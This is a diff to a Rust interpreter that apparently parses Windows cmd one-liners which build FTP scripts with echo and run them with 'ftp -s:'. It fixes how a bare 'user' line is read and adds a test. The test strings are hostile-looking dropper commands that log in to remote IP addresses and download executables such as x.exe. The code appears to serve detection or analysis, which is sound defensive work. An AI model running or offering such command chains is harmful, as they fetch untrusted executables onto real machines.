@@ -573,12 +573,15 @@ fn interpret(lines: &[Vec<String>], noauto: bool, open: Option<(String, u16)>) -
             };
             continue;
         }
-        if expect == Expect::User && cmd != "user" {
+        // At the prompts a line is the name or password itself, unless it is a
+        // `user NAME ...` command (a bare `user` is a name).
+        let user_cmd = cmd == "user" && words.len() >= 2;
+        if expect == Expect::User && !user_cmd {
             user = Some(first.clone());
             expect = Expect::Pass;
             continue;
         }
-        if expect == Expect::Pass && cmd != "user" {
+        if expect == Expect::Pass && !user_cmd {
             pass = Some(words.join(" "));
             expect = Expect::Nothing;
             continue;
@@ -774,6 +777,10 @@ mod tests {
                 // Cut short before `ftp -s:`: the script is still followed.
                 "echo open 8.8.4.4 21 >> q & echo user u p >> q & echo get z.exe >> q",
                 vec![t("8.8.4.4", 21, Some("u"), Some("p"), "z.exe")],
+            ),
+            (
+                "echo open 11.1.1.1>o&echo user>>o&echo pass>>o&echo get x.exe>>o&ftp -s:o",
+                vec![t("11.1.1.1", 21, Some("user"), Some("pass"), "x.exe")],
             ),
             (
                 "echo open 9.9.9.9 21 1>>t&echo u 1>>t&echo p 1>>t&echo get w.exe 1>>t&ftp -s:t",
